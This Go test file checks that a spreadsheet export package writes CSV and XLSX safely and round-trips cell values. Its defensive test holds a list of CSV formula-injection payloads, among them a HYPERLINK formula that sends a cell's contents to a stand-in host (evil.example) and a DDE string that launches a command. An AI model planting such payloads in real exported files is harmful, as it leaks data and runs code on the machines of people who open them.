package sheet_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"muster/cloud/sheet"
)

func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	evil := []string{
		`=HYPERLINK("http://evil.example?"&A1,"click")`, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠a", " =1", "'=1",
		`=cmd|'/C calc'!A0`, "%0A=1", "a\n=1",
	}
	for _, language := range []string{"en", "de"} {
		var out bytes.Buffer
		w, err := sheet.NewCSV(&out, language, "Name")
		must(t, err)
		for _, cell := range evil {
			must(t, w.Row(cell))
		}
		must(t, w.Close())
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\ufeff")))
		if language == "de" {
			r.Comma = ';'
		}
		cells, err := r.ReadAll()
		must(t, err)
		for _, row := range cells[1:] {
			for _, cell := range row {
				if strings.ContainsRune("=+-@\t\r＝＋－＠|%", []rune(cell)[0]) {
					t.Errorf("%q is active", cell)
				}
			}
		}
	}
	var out bytes.Buffer
	w, err := sheet.NewXLSX(&out, "List: [all]", "Name")
	must(t, err)
	for _, cell := range evil {
		must(t, w.Row(cell))
	}
	must(t, w.Close())
	f, err := excelize.OpenReader(&out)
	must(t, err)
	for i := range evil {
		cell, err := excelize.CoordinatesToCellName(1, i+2)
		must(t, err)
		formula, err := f.GetCellFormula("List   all", cell)
		must(t, err)
		kind, err := f.GetCellType("List   all", cell)
		must(t, err)
		if formula != "" || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
			t.Errorf("%q is of type %d with formula %q", evil[i], kind, formula)
		}
	}
}

// What is exported is imported the same.
func TestRoundTrip(t *testing.T) {
	t.Parallel()
	text := rapid.OneOf(
		rapid.StringMatching(`'{0,3}[=+\-@＝%|]?['=A-Za-zäЯ0-9;," \n+|]{0,12}x`),
		rapid.StringMatching(`\+?[0-9]{1,15}x?`),
		rapid.SampledFrom([]string{"", "0042", "00", "TRUE", "1.234", "2026-11-21", "'", "''", "a\nb", "ü", "Щ", "😀", "a;b,c\td|e", "\"q\"", "<&>", "_x000D_", "1/2"}),
	)
	fields := []sheet.Field{sheet.Email, sheet.FirstName, sheet.LastName, sheet.Department}
	rapid.Check(t, func(t *rapid.T) {
		language := rapid.SampledFrom([]string{"en", "de", "ru"}).Draw(t, "language")
		want := rapid.SliceOfN(rapid.SliceOfN(text, 4, 4), 1, 8).Draw(t, "rows")
		var titles []string
		for _, f := range fields {
			titles = append(titles, f.Title(language))
		}
		for _, format := range []string{"csv", "xlsx"} {
			var out bytes.Buffer
			var w sheet.Writer
			var err error
			if format == "csv" {
				w, err = sheet.NewCSV(&out, language, titles...)
			} else {
				w, err = sheet.NewXLSX(&out, "x", titles...)
			}
			if err != nil {
				t.Fatal(err)
			}
			var full [][]string
			for _, row := range want {
				if err := w.Row(row...); err != nil {
					t.Fatal(err)
				}
				if strings.TrimSpace(strings.Join(row, "")) != "" {
					full = append(full, row)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			table, err := sheet.Open(bytes.NewReader(out.Bytes()), int64(out.Len()), "x")
			if err != nil {
				t.Fatal(format, err)
			}
			n := 0
			for row := range table.Rows() {
				for i, f := range fields {
					if got, want := row.Cells[f], strings.TrimSpace(full[n][i]); got != want {
						t.Fatalf("%s: %q became %q", format, want, got)
					}
				}
				n++
			}
			if n != len(full) || table.Err() != nil {
				t.Fatalf("%s: %d rows of %d, %v", format, n, len(full), table.Err())
			}
			if err := table.Close(); err != nil {
				t.Fatal(err)
			}
		}
	})
}
